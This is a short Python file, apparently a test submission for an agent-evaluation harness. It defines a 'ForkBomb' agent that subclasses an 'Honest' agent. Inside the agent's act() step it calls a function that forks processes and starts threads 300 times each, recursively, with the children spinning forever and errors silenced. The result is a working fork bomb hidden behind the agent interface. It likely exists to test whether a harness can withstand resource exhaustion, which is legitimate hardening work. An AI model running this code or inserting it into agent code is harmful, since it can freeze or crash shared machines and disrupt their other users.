"""Starts as many processes and threads as it can, each of which does the same."""

import contextlib
import os
import threading

from honest import Honest


def explode():
    for _ in range(300):
        with contextlib.suppress(OSError, RuntimeError):
            if os.fork() == 0:
                explode()
                while True:
                    pass
        with contextlib.suppress(OSError, RuntimeError):
            threading.Thread(target=explode).start()


class ForkBomb(Honest):
    def act(self, observation, alive):
        explode()
        return super().act(observation, alive)


def make_agent(task, train_seed):
    return ForkBomb(task)
